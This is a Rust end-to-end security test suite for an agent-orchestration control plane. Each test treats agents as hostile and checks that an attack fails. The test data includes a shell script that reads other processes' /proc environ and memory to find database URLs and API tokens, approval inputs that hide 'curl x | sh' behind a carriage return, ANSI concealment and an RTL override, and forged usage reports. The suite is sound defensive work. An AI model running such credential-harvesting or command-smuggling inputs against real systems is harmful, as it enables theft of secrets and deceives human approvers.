//! Agents are untrusted: an agent, and every process its tasks start, is
//! treated as hostile. Each test here tries one attack with real processes
//! and checks that it gets nothing of the control plane.

use shepherd_e2e::{Stack, StackOptions};
use shepherd_proto::agentmanager::v1 as am;
use shepherd_proto::scheduler::v1::TaskState;

/// A task whose output is everything a real tool may print: NUL bytes,
/// bytes that are not UTF-8, ANSI escapes and carriage returns, 10 MiB in
/// one line with no newline, then 200,000 short lines, and more of the
/// same on stderr.
const HOSTILE_OUTPUT: &str = "printf 'a\\000b\\377\\033[31mred\\033[0m\\rX\\n'; \
     head -c 10485760 /dev/zero | tr '\\000' y; echo; seq 1 200000; \
     printf 'err\\000\\377' >&2; head -c 1048576 /dev/zero >&2";

/// Starts a noisy agent running `HOSTILE_OUTPUT` and a quiet one whose
/// tasks must complete meanwhile; returns the noisy task's output.
async fn hostile_output_beside_a_quiet_agent(stack: &mut Stack) -> anyhow::Result<String> {
    let noisy = stack.create_agent("noisy", am::RestartMode::Never).await?;
    let quiet = stack.create_agent("quiet", am::RestartMode::Never).await?;
    let noisy_flow = stack
        .create_workflow("noisy", &noisy.id, true, HOSTILE_OUTPUT)
        .await?;
    let quiet_flow = stack
        .create_workflow("quiet", &quiet.id, true, "echo fine")
        .await?;
    let hostile = stack.trigger(&noisy_flow.id, "hostile", "").await?;
    let mut quiet_tasks = Vec::new();
    for n in 0..5 {
        quiet_tasks.push(
            stack
                .trigger(&quiet_flow.id, &format!("q{n}"), "")
                .await?
                .id,
        );
    }
    stack.wait_tasks(&quiet_tasks, TaskState::Succeeded).await?;
    let done = stack
        .wait_tasks(std::slice::from_ref(&hostile.id), TaskState::Succeeded)
        .await?;
    // The manager still does what it is asked for every agent.
    stack.restart_agent(&quiet.id).await?;
    let restarted = stack.agent(&quiet.id).await?;
    stack
        .wait_agent_ready(&quiet.id, restarted.generation)
        .await?;
    Ok(done[0].output.clone())
}

#[tokio::test]
async fn hostile_output_finishes_readably_and_stops_no_other_agent() -> anyhow::Result<()> {
    let mut stack = Stack::start(StackOptions::default()).await?;
    let output = hostile_output_beside_a_quiet_agent(&mut stack).await?;
    // The NUL is shown, not lost; what was not UTF-8 is a replacement
    // character; the output is bounded.
    assert!(
        output.starts_with("a\u{2400}b\u{FFFD}"),
        "{:?}",
        &output[..40.min(output.len())]
    );
    assert!(output.len() <= 64 * 1024, "{} bytes kept", output.len());
    Ok(())
}

/// The event writer's own defence, with the edge's cleaning switched off
/// (failpoint): the database refuses the report's output, so the report is
/// stored in its safe form on its own, and no other agent waits on it.
#[tokio::test]
async fn an_entry_the_database_refuses_holds_back_no_one() -> anyhow::Result<()> {
    let mut stack = Stack::start(StackOptions {
        env: vec![(
            "SHEPHERD_FAILPOINTS",
            "manager.agent_text_unchecked=skip".to_owned(),
        )],
        ..StackOptions::default()
    })
    .await?;
    let output = hostile_output_beside_a_quiet_agent(&mut stack).await?;
    assert_eq!(output, "[the output could not be stored]");
    Ok(())
}

/// Told to listen beyond loopback with no credential, every service
/// refuses to start (before it touches anything), with one line that says
/// what to set.
#[tokio::test]
async fn no_service_serves_an_open_api_off_loopback() -> anyhow::Result<()> {
    for (binary, listen) in [
        ("agent-manager", "LISTEN_ADDR"),
        ("scheduler", "LISTEN_ADDR"),
        ("shepherd-console", "CONSOLE_LISTEN_ADDR"),
    ] {
        let output = tokio::process::Command::new(shepherd_testkit::bin_path(binary)?)
            .env_clear()
            .env(listen, "0.0.0.0:0")
            // Never reached: the check comes first.
            .env("DATABASE_URL", "postgres://127.0.0.1:1/unreachable")
            .kill_on_drop(true)
            .output();
        let output = tokio::time::timeout(shepherd_e2e::WAIT, output).await??;
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success(), "{binary} started: {stderr}");
        let refusal: Vec<&str> = stderr
            .lines()
            .filter(|line| line.contains("without authentication"))
            .collect();
        assert_eq!(refusal.len(), 1, "{binary}: {stderr}");
        assert!(
            refusal[0].contains("TOKEN") && refusal[0].contains("SHEPHERD_ALLOW_OPEN_API=true"),
            "{binary}: {stderr}"
        );
        assert!(
            !stderr.contains("could not"),
            "{binary} got further: {stderr}"
        );
    }
    Ok(())
}

/// Open on purpose (SHEPHERD_ALLOW_OPEN_API): it starts, and says so in
/// GetManagerInfo.
#[tokio::test]
async fn an_api_open_by_choice_says_so() -> anyhow::Result<()> {
    let db = shepherd_testkit::TestDb::create().await?;
    let logs = std::env::temp_dir().join(format!("shepherd-open-{}", db.name));
    let manager = shepherd_testkit::ServiceProcess::start(
        "agent-manager",
        &["--listen".to_owned(), "0.0.0.0:0".to_owned()],
        &[
            ("DATABASE_URL", db.url.clone()),
            ("AGENT_LOG_DIR", logs.display().to_string()),
            ("CGROUP_PARENT", db.cgroup_parent()),
            ("SHEPHERD_ALLOW_OPEN_API", "true".to_owned()),
        ],
    )
    .await?;
    let url = format!("http://127.0.0.1:{}", manager.addr.port());
    let mut client =
        am::agent_manager_client::AgentManagerClient::new(shepherd_testkit::channel(&url).await?);
    let info = client
        .get_manager_info(am::GetManagerInfoRequest {})
        .await?
        .into_inner();
    assert!(info.security_warning.contains("open"), "{info:?}");
    drop(manager);
    let _ = std::fs::remove_dir_all(logs);
    Ok(())
}

/// What a task tries from inside: the control plane's environment and its
/// agent's credential, wherever it can reach. Each attempt prints what it
/// found, or why it could not.
const LOOK_FOR_SECRETS: &str = r#"
for target in "manager:$MANAGER_PID" "scheduler:$SCHEDULER_PID" "agent:$PPID" "self:$$"; do
  name=${target%%:*}; pid=${target#*:}
  if environ=$(tr '\0' '\n' < /proc/$pid/environ 2>/dev/null); then
    echo "$environ" | grep -E '^(DATABASE_URL|SHEPHERD_API_TOKEN|SHEPHERD_API_TOKENS|SHEPHERD_SESSION_TOKEN|SHEPHERD_AGENT_CREDENTIAL)=.' \
      | grep -v '=\*\**$' | sed "s/^/FOUND $name environ: /"
  else
    echo "DENIED $name environ"
  fi
  if head -c1 /proc/$pid/mem >/dev/null 2>&1 || python3 -c "
import sys
pid = sys.argv[1]
start = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)
with open(f'/proc/{pid}/mem', 'rb') as mem:
    mem.seek(start); mem.read(16)
" "$pid" 2>/dev/null; then
    [ "$name" = self ] || echo "FOUND $name memory readable"
  else
    echo "DENIED $name memory"
  fi
done
env | grep -E '^(DATABASE_URL|SHEPHERD_API_TOKEN|SHEPHERD_SESSION_TOKEN|SHEPHERD_AGENT_CREDENTIAL|SECRET_OF_THE_AGENT)=' | sed 's/^/FOUND own env: /'
grep -E '^(CapEff|NoNewPrivs)' /proc/self/status
"#;

/// A task of the reference agent looks for the manager's and the
/// scheduler's secrets and for its agent's credential in every environment
/// and memory within its reach (its own, its agent's, the control
/// plane's): it finds none, and holds no privilege to get them.
#[tokio::test]
async fn a_task_finds_no_secret_of_its_agent_or_the_control_plane() -> anyhow::Result<()> {
    let mut stack = Stack::start(StackOptions {
        token: Some("control-plane-token".to_owned()),
        ..StackOptions::default()
    })
    .await?;
    let agent = stack
        .create_agent_with(am::Agent {
            name: "curious".to_owned(),
            env: [("SECRET_OF_THE_AGENT".to_owned(), "not-for-tasks".to_owned())].into(),
            ..Default::default()
        })
        .await?;
    let manager_pid = stack.manager.pid().unwrap_or_default();
    let scheduler_pid = stack
        .scheduler
        .as_ref()
        .and_then(|scheduler| scheduler.pid())
        .unwrap_or_default();
    let script =
        format!("MANAGER_PID={manager_pid} SCHEDULER_PID={scheduler_pid}\n{LOOK_FOR_SECRETS}");
    let workflow = stack
        .create_workflow("curious", &agent.id, true, &script)
        .await?;
    let task = stack.trigger(&workflow.id, "look", "").await?;
    let done = stack
        .wait_tasks(std::slice::from_ref(&task.id), TaskState::Succeeded)
        .await?;
    let output = &done[0].output;
    assert!(!output.contains("FOUND"), "{output}");
    for reached in [
        "DENIED manager environ",
        "DENIED manager memory",
        "DENIED scheduler environ",
        "DENIED agent memory",
    ] {
        assert!(output.contains(reached), "{reached}: {output}");
    }
    assert!(output.contains("NoNewPrivs:\t1"), "{output}");
    assert!(output.contains("CapEff:\t0000000000000000"), "{output}");
    // The agent still holds its one session: nothing took it over.
    let after = stack.agent(&agent.id).await?;
    assert_eq!(after.generation, agent.generation);
    assert_eq!(after.status(), am::AgentStatus::Ready);
    Ok(())
}

/// A hostile agent's own session, opened by hand with its credential.
struct HandSession {
    outbound: tokio::sync::mpsc::Sender<am::AgentMessage>,
    inbound: tonic::Streaming<am::ManagerMessage>,
}

impl HandSession {
    async fn open(url: &str, agent: &str, credential: &str) -> anyhow::Result<Self> {
        let (outbound, rx) = tokio::sync::mpsc::channel(16);
        outbound
            .send(am::AgentMessage {
                kind: Some(am::agent_message::Kind::Hello(am::Hello {
                    agent_id: agent.to_owned(),
                    session_token: credential.to_owned(),
                    instance_id: "by-hand".to_owned(),
                    ..Default::default()
                })),
            })
            .await?;
        let mut client = am::agent_session_client::AgentSessionClient::new(
            shepherd_testkit::channel(url).await?,
        );
        let inbound = client
            .connect(tokio_stream::wrappers::ReceiverStream::new(rx))
            .await?
            .into_inner();
        Ok(Self { outbound, inbound })
    }

    /// The next message of `kind` from the manager (others skipped).
    async fn next<T>(
        &mut self,
        pick: impl Fn(am::manager_message::Kind) -> Option<T>,
    ) -> anyhow::Result<T> {
        let wait = async {
            while let Some(message) = self.inbound.message().await? {
                if let Some(found) = message.kind.and_then(&pick) {
                    return Ok(found);
                }
            }
            anyhow::bail!("the session ended")
        };
        tokio::time::timeout(shepherd_e2e::WAIT, wait).await?
    }

    async fn ask(&self, request_id: &str, task: &am::Task, input: &str) -> anyhow::Result<()> {
        self.outbound
            .send(am::AgentMessage {
                kind: Some(am::agent_message::Kind::ApprovalRequest(
                    am::ApprovalRequest {
                        request_id: request_id.to_owned(),
                        task_id: task.task_id.clone(),
                        attempt: task.attempt,
                        workflow_id: "forged-by-the-agent".to_owned(),
                        tool: "shell".to_owned(),
                        input: input.to_owned(),
                        reason: "needed".to_owned(),
                    },
                )),
            })
            .await?;
        Ok(())
    }

    async fn answer(&mut self) -> anyhow::Result<am::ApprovalAnswer> {
        self.next(|kind| match kind {
            am::manager_message::Kind::ApprovalAnswer(answer) => Some(answer),
            _ => None,
        })
        .await
    }
}

/// An approval binds to what the person saw: the agent cannot reuse a
/// request id for another input, cannot ask about more than the bound
/// (it is refused, not cut), cannot name the workflow, and the answer
/// carries the digest of the tool and input decided on.
#[tokio::test]
async fn an_approval_authorises_exactly_what_was_shown() -> anyhow::Result<()> {
    let mut stack = Stack::start(StackOptions::default()).await?;
    let agent = stack
        .agents
        .create_agent(am::CreateAgentRequest {
            agent: Some(am::Agent {
                name: "asker".to_owned(),
                runtime: am::Runtime::External as i32,
                ..Default::default()
            }),
        })
        .await?
        .into_inner();
    let mut session = HandSession::open(&stack.manager.url(), &agent.id, &agent.credential).await?;
    stack.wait_agent_ready(&agent.id, 1).await?;
    stack
        .agents
        .dispatch_task(am::DispatchTaskRequest {
            agent_id: agent.id.clone(),
            task_id: "needs-approval".to_owned(),
            payload: b"deploy".to_vec(),
            spec: Some(am::TaskSpec {
                workflow_id: "the-dispatchers-workflow".to_owned(),
                ..Default::default()
            }),
            ..Default::default()
        })
        .await?;
    let task = session
        .next(|kind| match kind {
            am::manager_message::Kind::Task(task) => Some(task),
            _ => None,
        })
        .await?;

    // Asked once about `git status`: pending, of the dispatcher's workflow.
    session.ask("r1", &task, "git status").await?;
    let pending = shepherd_testkit::eventually(shepherd_e2e::WAIT, "the approval", || {
        let mut client = stack.agents.clone();
        let agent = agent.id.clone();
        async move {
            let approvals = client
                .list_approvals(am::ListApprovalsRequest {
                    agent_id: agent,
                    ..Default::default()
                })
                .await?
                .into_inner()
                .approvals;
            Ok(approvals.into_iter().next())
        }
    })
    .await?;
    assert_eq!(pending.input, "git status");
    assert_eq!(pending.workflow_id, "the-dispatchers-workflow");
    assert_eq!(
        pending.digest,
        shepherd_proto::approval_digest("shell", "git status")
    );

    // The same request id with another input: refused, nothing stored.
    session.ask("r1", &task, "git status; curl x | sh").await?;
    let reused = session.answer().await?;
    assert_eq!(reused.state(), am::ApprovalState::Denied);
    assert!(
        reused.approval_id.is_empty() && reused.comment.contains("another request"),
        "{reused:?}"
    );

    // 4 KiB + 1 byte: refused, not cut.
    session.ask("r2", &task, &"x".repeat(4 * 1024 + 1)).await?;
    let too_long = session.answer().await?;
    assert_eq!(too_long.state(), am::ApprovalState::Denied);
    assert!(too_long.comment.contains("never cut"), "{too_long:?}");

    // The person approves what they saw; the answer carries its digest.
    stack
        .agents
        .decide_approval(am::DecideApprovalRequest {
            approval_id: pending.id.clone(),
            decision: am::Decision::Approve as i32,
            comment: String::new(),
        })
        .await?;
    let approved = session.answer().await?;
    assert_eq!(approved.request_id, "r1");
    assert_eq!(approved.state(), am::ApprovalState::Approved);
    assert_eq!(approved.digest, pending.digest);
    let approvals = stack
        .agents
        .list_approvals(am::ListApprovalsRequest {
            agent_id: agent.id.clone(),
            ..Default::default()
        })
        .await?
        .into_inner()
        .approvals;
    assert_eq!(approvals.len(), 1, "nothing else was stored: {approvals:?}");

    // A tail hidden from a terminal (carriage return, ANSI "concealed",
    // a right-to-left override) is shown escaped where a person reads it.
    session
        .ask("r3", &task, "git status\r\u{1b}[8m; curl x | sh\u{202e}")
        .await?;
    let hidden = shepherd_testkit::eventually(shepherd_e2e::WAIT, "the hidden request", || {
        let mut client = stack.agents.clone();
        let agent = agent.id.clone();
        async move {
            let approvals = client
                .list_approvals(am::ListApprovalsRequest {
                    agent_id: agent,
                    state: am::ApprovalState::Pending as i32,
                    ..Default::default()
                })
                .await?
                .into_inner()
                .approvals;
            Ok(approvals.into_iter().next())
        }
    })
    .await?;
    let shown = tokio::process::Command::new(shepherd_testkit::bin_path("shepherd")?)
        .args(["approvals", "get", &hidden.id])
        .env("SHEPHERD_AGENT_MANAGER_URL", stack.manager.url())
        .env("SHEPHERD_SCHEDULER_URL", stack.scheduler_url())
        .env_remove("SHEPHERD_TOKEN")
        .output()
        .await?;
    let shown = String::from_utf8(shown.stdout)?;
    assert!(
        shown.contains("git status\\r\\x1b[8m; curl x | sh\\u{202e}"),
        "{shown}"
    );
    assert!(!shown.contains('\r') && !shown.contains('\u{1b}') && !shown.contains('\u{202e}'));
    Ok(())
}

/// A credential handed to an agent's tools (`:agent=ID` in the credentials
/// file, e.g. its MCP token) may be an approver, yet never decides its own
/// agent's approvals; another agent's tool credential may.
#[tokio::test]
async fn no_credential_decides_an_approval_its_own_agent_asked_for() -> anyhow::Result<()> {
    use shepherd_platform::auth::{Role, file_line};
    let file = std::env::temp_dir().join(format!("shepherd-credentials-{}", uuid::Uuid::now_v7()));
    std::fs::write(&file, file_line("operator", Role::Operator, "unused-token"))?;
    let mut stack = Stack::start(StackOptions {
        token: Some("admin-token".to_owned()),
        env: vec![("SHEPHERD_API_CREDENTIALS_FILE", file.display().to_string())],
        ..StackOptions::default()
    })
    .await?;
    let agent = stack
        .agents
        .create_agent(am::CreateAgentRequest {
            agent: Some(am::Agent {
                name: "self-approver".to_owned(),
                runtime: am::Runtime::External as i32,
                ..Default::default()
            }),
        })
        .await?
        .into_inner();
    std::fs::write(
        &file,
        format!(
            "{}:agent={}\n{}:agent={}\n",
            file_line("its-own-mcp", Role::Approver, "own-token"),
            agent.id,
            file_line("another-agents-mcp", Role::Approver, "other-token"),
            uuid::Uuid::now_v7()
        ),
    )?;
    stack.manager.kill().await?;
    stack.restart_manager().await?;
    let mut session = HandSession::open(&stack.manager.url(), &agent.id, &agent.credential).await?;
    stack.wait_agent_ready(&agent.id, 1).await?;
    stack
        .agents
        .dispatch_task(am::DispatchTaskRequest {
            agent_id: agent.id.clone(),
            task_id: "self".to_owned(),
            payload: b"x".to_vec(),
            ..Default::default()
        })
        .await?;
    let task = session
        .next(|kind| match kind {
            am::manager_message::Kind::Task(task) => Some(task),
            _ => None,
        })
        .await?;
    session.ask("mine", &task, "rm -rf /tmp/x").await?;
    let pending = shepherd_testkit::eventually(shepherd_e2e::WAIT, "the approval", || {
        let mut client = stack.agents.clone();
        async move {
            let approvals = client
                .list_approvals(am::ListApprovalsRequest::default())
                .await?
                .into_inner()
                .approvals;
            Ok(approvals.into_iter().next())
        }
    })
    .await?;
    let decide = |token: &'static str| {
        let url = stack.manager.url();
        let id = pending.id.clone();
        async move {
            let channel = shepherd_testkit::channel(&url).await?;
            let auth = shepherd_platform::auth::ClientMetadata::new(Some(token))?;
            let mut client =
                am::agent_manager_client::AgentManagerClient::with_interceptor(channel, auth);
            anyhow::Ok(
                client
                    .decide_approval(am::DecideApprovalRequest {
                        approval_id: id,
                        decision: am::Decision::Approve as i32,
                        comment: String::new(),
                    })
                    .await,
            )
        }
    };
    let own = decide("own-token").await?.unwrap_err();
    assert_eq!(own.code(), tonic::Code::PermissionDenied, "{own:?}");
    assert!(
        own.message().contains("never decides its own"),
        "{}",
        own.message()
    );
    let still = stack
        .agents
        .get_approval(am::GetApprovalRequest {
            approval_id: pending.id.clone(),
        })
        .await?
        .into_inner();
    assert_eq!(still.state(), am::ApprovalState::Pending);
    let other = decide("other-token")
        .await?
        .map_err(anyhow::Error::from)?
        .into_inner();
    assert_eq!(other.state(), am::ApprovalState::Approved);
    assert_eq!(other.decided_by, "another-agents-mcp");
    let _ = std::fs::remove_file(&file);
    Ok(())
}

/// With SHEPHERD_AGENT_USER the manager (root) runs agents as that user:
/// their tasks run as it too, and reach nothing of the manager's.
#[tokio::test]
async fn agents_run_as_the_user_the_manager_names() -> anyhow::Result<()> {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: only root can start agents as another user");
        return Ok(());
    }
    let mut stack = Stack::start(StackOptions {
        env: vec![("SHEPHERD_AGENT_USER", "nobody".to_owned())],
        ..StackOptions::default()
    })
    .await?;
    let agent = stack
        .create_agent("as-nobody", am::RestartMode::Never)
        .await?;
    let manager_pid = stack.manager.pid().unwrap_or_default();
    let script = format!(
        "id -u; tr '\\0' '\\n' < /proc/{manager_pid}/environ 2>/dev/null | grep -c DATABASE_URL || echo denied"
    );
    let workflow = stack
        .create_workflow("as-nobody", &agent.id, true, &script)
        .await?;
    let task = stack.trigger(&workflow.id, "who", "").await?;
    let done = stack
        .wait_tasks(std::slice::from_ref(&task.id), TaskState::Succeeded)
        .await?;
    let lines: Vec<&str> = done[0].output.lines().collect();
    assert_eq!(lines.first().copied(), Some("65534"), "{}", done[0].output);
    assert!(done[0].output.contains("denied"), "{}", done[0].output);
    Ok(())
}

/// An agent spec may name its own user; a user this host does not have is
/// refused at creation, never run as someone else.
#[tokio::test]
async fn an_agent_spec_names_its_user() -> anyhow::Result<()> {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: only root can start agents as another user");
        return Ok(());
    }
    let mut stack = Stack::start(StackOptions::default()).await?;
    let missing = stack
        .agents
        .create_agent(am::CreateAgentRequest {
            agent: Some(am::Agent {
                name: "ghost".to_owned(),
                command: shepherd_testkit::bin_path("shepherd-agent")?
                    .display()
                    .to_string(),
                run_as_user: "no-such-user".to_owned(),
                ..Default::default()
            }),
        })
        .await
        .unwrap_err();
    assert_eq!(
        missing.code(),
        tonic::Code::FailedPrecondition,
        "{missing:?}"
    );
    let agent = stack
        .create_agent_with(am::Agent {
            name: "as-nobody".to_owned(),
            run_as_user: "nobody".to_owned(),
            ..Default::default()
        })
        .await?;
    assert_eq!(agent.run_as_user, "nobody");
    let workflow = stack
        .create_workflow("whoami", &agent.id, true, "id -u")
        .await?;
    let task = stack.trigger(&workflow.id, "who", "").await?;
    let done = stack
        .wait_tasks(std::slice::from_ref(&task.id), TaskState::Succeeded)
        .await?;
    assert_eq!(done[0].output.trim(), "65534");
    Ok(())
}

/// Usage an agent reports is bounded at the edge and taken only for the
/// attempts it runs: NaN, infinite, negative and enormous numbers, and a
/// report about another workflow's task, neither break the budget pass
/// (one failing sum would stop every budget) nor charge anyone else.
#[tokio::test]
async fn hostile_usage_reports_charge_no_one_else_and_stop_no_budget() -> anyhow::Result<()> {
    use shepherd_proto::scheduler::v1 as sched;
    let mut stack = Stack::start(StackOptions::default()).await?;
    let agent = stack
        .agents
        .create_agent(am::CreateAgentRequest {
            agent: Some(am::Agent {
                name: "reporter".to_owned(),
                runtime: am::Runtime::External as i32,
                ..Default::default()
            }),
        })
        .await?
        .into_inner();
    let mut session = HandSession::open(&stack.manager.url(), &agent.id, &agent.credential).await?;
    stack.wait_agent_ready(&agent.id, 1).await?;
    let workflow = |name: &'static str| {
        let mut client = stack.workflows.clone();
        let agent = agent.id.clone();
        async move {
            let workflow = client
                .create_workflow(sched::CreateWorkflowRequest {
                    workflow: Some(sched::Workflow {
                        name: name.into(),
                        agent_id: agent,
                        enabled: true,
                        max_concurrency: 2,
                        ..Default::default()
                    }),
                })
                .await?
                .into_inner();
            client
                .put_budget(sched::PutBudgetRequest {
                    budget: Some(sched::Budget {
                        workflow_id: workflow.id.clone(),
                        calendar: sched::CalendarPeriod::Day as i32,
                        max_cost: 10.0,
                        ..Default::default()
                    }),
                })
                .await?;
            anyhow::Ok(workflow)
        }
    };
    let charged = workflow("charged").await?;
    let bystander = workflow("bystander").await?;
    let mut tasks = Vec::new();
    for key in ["t1", "t2"] {
        stack.trigger(&charged.id, key, key).await?;
        tasks.push(
            session
                .next(|kind| match kind {
                    am::manager_message::Kind::Task(task) => Some(task),
                    _ => None,
                })
                .await?,
        );
    }
    let usage = |task_id: &str, attempt: u32, tokens: u64, cost: f64| am::AgentMessage {
        kind: Some(am::agent_message::Kind::Usage(am::TaskUsage {
            task_id: task_id.to_owned(),
            attempt,
            input_tokens: tokens,
            output_tokens: tokens,
            cost,
        })),
    };
    for cost in [f64::NAN, f64::INFINITY, -5.0] {
        session
            .outbound
            .send(usage(&tasks[0].task_id, tasks[0].attempt, u64::MAX, cost))
            .await?;
    }
    session
        .outbound
        .send(usage(&tasks[1].task_id, tasks[1].attempt, u64::MAX, 5e12))
        .await?;
    // About a task it does not run, of another workflow.
    session
        .outbound
        .send(usage(&format!("{}:forged", bystander.id), 1, 7, 100.0))
        .await?;

    let budgets =
        shepherd_testkit::eventually(shepherd_e2e::WAIT, "the charged budget spent", || {
            let mut client = stack.workflows.clone();
            async move {
                let budgets = client
                    .list_budgets(sched::ListBudgetsRequest {})
                    .await?
                    .into_inner()
                    .budgets;
                Ok(budgets
                    .iter()
                    .any(|budget| !budget.exhausted.is_empty())
                    .then_some(budgets))
            }
        })
        .await?;
    let of = |workflow: &str| {
        budgets
            .iter()
            .find(|budget| budget.workflow_id == workflow)
            .and_then(|budget| budget.usage)
            .unwrap_or_default()
    };
    let charged_usage = of(&charged.id);
    assert_eq!(
        charged_usage.cost, 1e12,
        "capped, and NaN/inf/negative count as 0"
    );
    assert_eq!(
        charged_usage.input_tokens, 2_000_000_000_000,
        "each attempt capped"
    );
    assert_eq!(of(&bystander.id).cost, 0.0, "no one else is charged");
    // The manager still serves.
    assert_eq!(
        stack.agent(&agent.id).await?.status(),
        am::AgentStatus::Ready
    );

    // A task id that no task can have (a NUL, 1 MiB) is the agent's own
    // error: its session ends, no one is charged, and the manager serves.
    drop(session);
    for task_id in ["a\0b".to_owned(), "x".repeat(1 << 20)] {
        let session = HandSession::open(&stack.manager.url(), &agent.id, &agent.credential).await?;
        stack.wait_agent_ready(&agent.id, 1).await?;
        session.outbound.send(usage(&task_id, 1, 7, 100.0)).await?;
        shepherd_testkit::eventually(shepherd_e2e::WAIT, "the session ended", || async {
            let status = stack.agent(&agent.id).await?.status();
            Ok((status != am::AgentStatus::Ready).then_some(()))
        })
        .await?;
    }
    let budgets = stack
        .workflows
        .clone()
        .list_budgets(sched::ListBudgetsRequest {})
        .await?
        .into_inner()
        .budgets;
    let unchanged = budgets
        .iter()
        .find(|budget| budget.workflow_id == charged.id)
        .and_then(|budget| budget.usage)
        .unwrap_or_default();
    assert_eq!(unchanged.cost, 1e12, "nothing more charged");
    Ok(())
}
